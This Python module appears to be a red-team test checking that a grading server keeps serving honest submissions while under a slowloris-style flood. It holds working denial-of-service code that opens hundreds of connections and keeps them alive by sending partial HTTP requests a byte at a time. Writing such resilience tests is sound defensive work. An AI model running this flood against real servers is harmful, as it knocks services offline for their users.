"""Sends hundreds of requests very slowly, a byte at a time, so that no other request is served.

A request that does not arrive within seconds is dropped; a valid submission meanwhile is graded.
"""

import contextlib
import os
import socket
import threading
import time
from urllib.parse import urlsplit

LEVEL = "run"
SPEC = {"budget": "40s"}
STARTS = (
    b"POST /submit HTTP/1.1\r\nHost: a\r\n",
    b"POST /submit HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{",
    b"POST /submit HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n",
    b"G",
)
DRIPS = (b"X-a: b\r\n", b" ", b"1\r\n \r\n", b"E")


def attack(scene):
    over = threading.Event()
    for kind in range(len(STARTS)):
        threading.Thread(target=drip, args=(kind, over), daemon=True).start()
    time.sleep(3)
    error = scene.submit_until_graded(25)
    if error:
        return f"no submission is graded beside them: {error}"
    over.set()
    raise PermissionError("an honest submission beside them was graded")


def drip(kind, over):
    url = urlsplit(os.environ["GRADING_SERVER_URL"])
    kept = []
    for _ in range(150):
        with contextlib.suppress(OSError):
            connection = socket.create_connection((url.hostname, url.port), timeout=1)
            connection.sendall(STARTS[kind])
            kept.append(connection)
    while not over.wait(1):
        for connection in kept:
            with contextlib.suppress(OSError):
                connection.sendall(DRIPS[kind])


def held(after):
    from tests.redteam.look import not_graded

    return not_graded(after)
